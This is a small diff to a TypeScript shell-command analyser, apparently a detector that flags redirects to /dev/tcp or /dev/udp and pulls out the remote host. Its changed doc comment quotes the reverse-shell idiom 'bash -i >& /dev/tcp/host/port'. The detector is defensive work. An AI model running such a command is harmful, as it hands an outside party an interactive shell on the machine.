@@ -6,7 +6,7 @@ import type { CodeTable } from '../../tool.ts';
 import { announce, isDecoded, ownText, saysNothing, scriptFile, scriptInput } from '../../tools/shells.ts';
 import { isFed } from '../../traits/feeders.ts';
 
-/** `bash -i >& /dev/tcp/host/port`: whoever is at the other end types the commands. */
+/** `bash -i >& /dev/tcp/host/port`: the other end types the commands. */
 function connected(call: Call): void {
   for (const { target } of call.command.redirects) {
     const host = /^\/dev\/(?:tcp|udp)\/([^/]*)/.exec(target.template)?.[1];
